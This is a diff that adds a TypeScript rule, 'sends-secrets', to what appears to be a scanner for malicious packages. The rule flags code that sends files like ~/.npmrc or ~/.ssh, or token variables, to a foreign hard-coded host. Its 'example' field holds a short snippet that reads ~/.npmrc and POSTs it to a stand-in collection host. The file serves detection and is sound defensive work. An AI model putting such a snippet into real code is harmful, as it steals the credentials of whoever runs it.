@@ -1,0 +1,44 @@
+import { isChatHook, isCollectionHost, isLocalHost, isPublicAddress, belongsTo } from "../hosts.ts";
+import type { Rule, Sighting } from "../rule.ts";
+import type { LensView } from "../view.ts";
+import { flowsOf, named, placeOf } from "../view.ts";
+import type { Use } from "../../program/uses.ts";
+import type { Flow } from "../../program/value.ts";
+
+export const sendsSecrets: Rule = {
+  id: "sends-secrets",
+  title: "Sends secrets of this machine away",
+  why:
+    "Files such as ~/.npmrc or ~/.ssh, and variables named as tokens are, belong to whoever runs the " +
+    "code. A tool sends a token to the service it is for; this sends it to an address that is fixed in the code and is another.",
+  example:
+    'const npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"));\n' +
+    'https.request("https://collect.invalid", { method: "POST" }).end(npmrc);',
+  advice: "Do not install it. If it has run, revoke what the files and variables named here hold.",
+  severity: "critical",
+  confidence: "high",
+  look: (view) => view.sends.flatMap((use) => sightingOf(use, view)),
+};
+
+function sightingOf(use: Use, view: LensView): readonly Sighting[] {
+  const secrets = flowsOf(use, "secret", "clipboard", "keyboard");
+  if (secrets.length === 0) return [];
+  const addresses = view.addressesOf(use);
+  const hosts = view.hostsOf(use).filter((host) => !isLocalHost(host) && !host.startsWith("…"));
+  const strangers = secrets.filter((flow) => hosts.some((host) => !belongsTo(flow.what, host)));
+  const collects =
+    addresses.some(isChatHook) ||
+    hosts.some((host) => isCollectionHost(host) || isPublicAddress(host));
+  if (hosts.length === 0 || strangers.length === 0) return [];
+  const [host = "an address"] = hosts;
+  const fromFiles = strangers.filter((flow) => !isVariable(flow));
+  const severity =
+    collects || fromFiles.length > 0 ? "critical" : strangers.length > 2 ? "high" : "low";
+  const message = `What ${named(strangers)} holds is sent to ${host}.`;
+  return [{ place: placeOf(use), message, severity, confidence: collects ? "high" : "medium" }];
+}
+
+/** One variable alone is mostly a service's own token under a name we do not know. */
+function isVariable(flow: Flow): boolean {
+  return flow.what.startsWith("process.env.");
+}
